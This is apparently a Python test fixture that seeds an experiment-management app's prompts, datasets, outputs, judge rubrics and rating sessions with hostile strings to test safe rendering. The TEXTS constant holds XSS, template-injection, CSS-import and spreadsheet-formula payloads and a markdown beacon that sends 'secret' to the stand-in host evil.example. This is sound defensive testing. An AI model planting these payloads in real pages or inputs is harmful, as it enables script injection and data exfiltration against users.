"""Texts that want to be more than text, in every place where people, files and models can put text."""

from __future__ import annotations

import csv
import io

from experiments.actions.datasets.import_dataset import import_dataset
from experiments.actions.datasets.import_outputs import import_outputs
from experiments.actions.installation.manage_keys import create_key
from experiments.actions.rating.open_rating import open_session
from experiments.actions.registry.roll_back import set_label
from experiments.actions.registry.save_check import save_check
from experiments.actions.registry.save_prompt import save_prompt
from experiments.actions.runs.create_experiment import create_experiment
from experiments.experiment_file import ExperimentSpec
from experiments.prompts.content import Message, chat_prompt, text_prompt
from experiments.ratings.session_file import session_from
from experiments.vocabulary import Actor, Role
from storage.store import Store

HOST = "evil.example"
TEXTS = (
    f"<script>window.pwned=1;fetch('https://{HOST}/s')</script>",
    f"<img src=https://{HOST}/i.png onerror=\"window.pwned=2;alert('x')\">",
    f"![beacon](https://{HOST}/b.png?q=secret)",
    f"[click me](https://{HOST}/l) <a href='javascript:window.pwned=3'>go</a> www.{HOST} mail@{HOST}",
    f"<svg onload=window.pwned=4><use href='https://{HOST}/u.svg#x'/></svg><iframe src=https://{HOST}></iframe>",
    f"<style>@import url(https://{HOST}/c.css);body{{display:none}}</style><link rel=stylesheet href=https://{HOST}/d.css>",
    ":material/home: :red[red] :small[small] $\\sum x$ **bold** `code` # title\n\n- list\n\n> quote | a | b |",
    '"><b onmouseover=alert(1)>x</b><form action=https://evil.example><input autofocus onfocus=window.pwned=5></form>',
    "{{constructor.constructor('window.pwned=6')()}} ${window.pwned=7} <%= 7*7 %> {% raw %}",
    '=HYPERLINK("https://evil.example","x") \u202eright to left\u202c \u2066 zero\u200bwidth',
)
COLUMN = f"<img src=https://{HOST}/col.png onerror=window.pwned=8> **col** [l](https://{HOST})"
SLICE = f"![s](https://{HOST}/s.png) :red[slice]"
FILE = f"<img src=https://{HOST}/f.png>.csv"
ADA = Actor(f"ada <img src=https://{HOST}/a.png> [x](https://{HOST})", Role.ADMIN)
PROMPT, EXPERIMENT, DATASET, DRAFT = "hostile-prompt", "hostile-answers", "hostile-rows", "hostile-draft"
CHECK = "hostile-check"


def fill(store: Store) -> None:
    """Everything hostile, stored through the ordinary actions."""
    everything = "\n".join(TEXTS)
    model = f"openai/<img src=https://{HOST}/m.png>"
    save_prompt(store, PROMPT, text_prompt(f"{everything}\n{{{{body}}}}", model="demo/small"), actor=ADA, note=TEXTS[1])
    messages = [Message("system", everything), Message("user", "{{body}} {{missing}}")]
    save_prompt(
        store, PROMPT, chat_prompt(messages, model=model, parameters={"stop": TEXTS[2]}), actor=ADA, note=TEXTS[3]
    )
    set_label(store, PROMPT, label="production", at="1", actor=ADA, reason=TEXTS[1])
    set_label(store, PROMPT, label="staging", at="2", actor=ADA, reason=TEXTS[3])
    create_key(store, TEXTS[1][:90], ["read"], actor=ADA)
    roles = {"reference": "answer", "unit": None, "cluster": None, "slices": [SLICE]}
    done = import_dataset(store, rows(), filename=FILE, name=DATASET, actor=ADA, roles=roles)
    import_outputs(store, answers(), filename=FILE, experiment=EXPERIMENT, actor=ADA)
    create_experiment(store, draft(), dataset_version_id=done.version.id, actor=ADA)
    save_check(store, CHECK, check(model), actor=ADA, note=f"{TEXTS[1]} {TEXTS[2]}")
    asked = {"question": TEXTS[1], "instructions": everything, "reasons": [TEXTS[2][:60]], "leaks": "keep"}
    open_session(store, EXPERIMENT, session_from(asked), actor=ADA)


def rows() -> bytes:
    """A test set whose names and cells are hostile."""
    table = [["body", "answer", COLUMN, SLICE]]
    table += [
        [TEXTS[i % len(TEXTS)], TEXTS[-1 - i % len(TEXTS)], TEXTS[i % 7], f"v{i % 2} {TEXTS[1]}"[:58]]
        for i in range(40)
    ]
    return _csv(table)


def answers() -> bytes:
    """Answers of two variants with scores, all hostile."""
    table = [["example_id", "variant", "output", "body", SLICE, "reference", "score:right", "error_message", "status"]]
    for i in range(40):
        for variant, better in (("A", 0), ("B", 1)):
            failed = i == 39 and variant == "B"
            table.append(
                [
                    f"row {i} {TEXTS[i % 6]}",
                    variant,
                    "" if failed else TEXTS[(i + better) % len(TEXTS)],
                    TEXTS[i % len(TEXTS)],
                    f"v{i % 2} {TEXTS[2]}"[:58],
                    TEXTS[(i + 3) % len(TEXTS)],
                    "" if failed else str(int((i + better) % 3 > 0)),
                    TEXTS[1] if failed else "",
                    "failed" if failed else "ok",
                ]
            )
    return _csv(table)


def draft() -> ExperimentSpec:
    """A plan over the hostile test set."""
    return ExperimentSpec.model_validate(
        {
            "name": DRAFT,
            "hypothesis": TEXTS[1],
            "dataset": DATASET,
            "variants": [
                {"name": "A", "prompt": f"{TEXTS[0]} {{{{body}}}}", "model": "demo/small"},
                {"name": "B", "prompt": f"{TEXTS[1]} {{{{body}}}}", "model": "demo/small"},
            ],
            "scorers": ["exact_match"],
            "plan": {"primary": {"metric": "exact_match", "smallest_effect": 0.05}},
        }
    )


def check(model: str) -> dict[str, dict[str, object]]:
    """A judge whose rubric, criteria, columns, examples and model are hostile."""
    examples = [{"answer": text, "verdict": "fail", "reason": TEXTS[1]} for text in TEXTS[:4]]
    criteria = {"polite": TEXTS[0], "right": TEXTS[6]}
    rubric = "\n".join(TEXTS)
    return {
        "judge": {"model": model, "rubric": rubric, "criteria": criteria, "columns": [COLUMN], "examples": examples}
    }


def _csv(table: list[list[str]]) -> bytes:
    file = io.StringIO()
    csv.writer(file).writerows(table)
    return file.getvalue().encode()
